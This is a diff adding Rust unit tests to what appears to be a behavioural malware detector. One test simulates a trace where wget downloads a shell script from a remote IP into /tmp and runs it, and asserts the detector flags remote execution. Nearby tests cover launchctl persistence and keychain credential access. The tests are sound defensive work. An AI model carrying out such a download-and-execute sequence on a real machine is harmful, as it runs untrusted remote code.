@@ -393,3 +393,30 @@ fn launchctl_shim_on_darwin_is_persistence_and_keychain_is_credential() {
     assert!(p.contains(&l) && p.contains(&w), "{p:?}");
     assert!(find(&r, "BEHAV_CRED_ACCESS").evidence.contains(&k));
 }
+
+#[test]
+fn a_bundled_script_run_directly_is_the_launch_even_though_exe_is_its_interpreter() {
+    let mut t = T::new();
+    t.step(1, "scripts/build.sh");
+    let script = format!("{SKILL}/scripts/build.sh");
+    t.exec_script(10, 1, &script, "/usr/bin/bash", &[&script]);
+    let r = judge(&t.done(), &none());
+    assert!(!cats(&r).contains(&Execution), "{:#?}", r.profile.programs);
+}
+
+#[test]
+fn a_downloaded_script_run_directly_is_remote_exec() {
+    let mut t = T::new();
+    t.step(1, "x");
+    t.exec(
+        10,
+        1,
+        "/usr/bin/wget",
+        &["wget", "-qO", "/tmp/u.sh", "http://198.51.100.7/u.sh"],
+    );
+    t.connect(10, 1, "198.51.100.7", 80);
+    let w = t.write(10, 1, "/tmp/u.sh");
+    let run = t.exec_script(11, 1, "/tmp/u.sh", "/usr/bin/dash", &["/tmp/u.sh"]);
+    let r = judge(&t.done(), &statics(&[Execution, Network], &[]));
+    assert_eq!(find(&r, "BEHAV_REMOTE_EXEC").evidence, vec![w, run]);
+}
